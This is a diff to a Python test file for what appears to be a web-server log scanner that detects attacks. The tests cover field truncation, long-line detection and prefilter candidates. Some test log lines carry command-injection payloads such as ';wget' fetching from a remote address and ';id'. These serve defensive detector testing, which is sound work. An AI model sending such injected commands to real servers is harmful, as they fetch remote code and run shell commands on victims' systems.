@@ -10,6 +10,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from conftest import CORPUS, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
+from dropscan.detect.decode import MAX_FIELD
+from dropscan.detect.prefilter import LONG_RUN, long_lines
 from dropscan.formats.logformat import LogFormat, compile_format
 from dropscan.sources.files import Source, is_log_like, open_blocks
 
@@ -99,6 +101,40 @@ def test_encoded_percent_of_a_keyword_reaches_the_fast_path(fast_scanner, full_s
     line = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET ' + target + b' HTTP/1.1" 404 1 "-" "-"\n'
     res = _compare(fast_scanner, full_scanner, line)
     assert [f.rule_ids[0] for f in res.findings] == ["rce.shell-command"]
+
+
+# A field is cut at MAX_FIELD characters, and one byte as logged reads as at most four (an
+# undecodable byte: \\xff): a field of MAX_FIELD / 4 + 1 such bytes is the shortest that is cut.
+# It holds no keyword and no marker, so only the prefilter's long-line and long-field checks pass
+# it; the fast path must report it unscanned as the full path does (and the field just short of
+# it not at all), alone in its chunk or among ordinary lines.
+@pytest.mark.parametrize(("size", "cut"), [(MAX_FIELD // 4, False), (MAX_FIELD // 4 + 1, True)])
+def test_the_shortest_field_that_is_cut_reaches_the_fast_path(fast_scanner, full_scanner, size, cut):
+    head = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "'
+    line = head + b"\xff" * size + b'"\n'
+    ordinary = combined_line("/index.html")
+    for chunk in (line, ordinary + line + ordinary):
+        a = fast_scanner.scan_chunk(chunk, COMBINED, log_file="x")
+        res = _compare(fast_scanner, full_scanner, chunk)
+        assert a.unscanned == res.unscanned == cut
+        assert [f.rule_ids for f in res.findings] == ([["unscanned.field-cut"]] if cut else [])
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.integers(0, 12), max_size=12), st.integers(1, 8), st.booleans())
+def test_long_lines_are_the_lines_of_run_bytes_or_more(lengths, run, final_newline):
+    chunk = b"\n".join(b"x" * n for n in lengths) + (b"\n" if final_newline and lengths else b"")
+    starts = [sum(n + 1 for n in lengths[:i]) for i in range(len(lengths))]
+    assert long_lines(chunk, run) == [s for s, n in zip(starts, lengths, strict=True) if n >= run]
+
+
+def test_a_long_line_is_one_candidate_among_the_others(fast_scanner):
+    """Candidates are line starts in order, each once, whether a line is long, holds keywords, or both."""
+    long_attack = combined_line("/?c=;wget%20http://203.0.113.9/x&pad=" + "a" * LONG_RUN)
+    lines = [combined_line("/"), long_attack, combined_line("/?c=;id"), combined_line("/" + "b" * LONG_RUN)]
+    chunk = b"".join(lines)
+    starts = [sum(map(len, lines[:i])) for i in range(len(lines))]
+    assert fast_scanner.prefilter(COMBINED).candidates(chunk) == starts[1:]
 
 
 def test_benign_encoded_percent_is_not_a_candidate(fast_scanner):
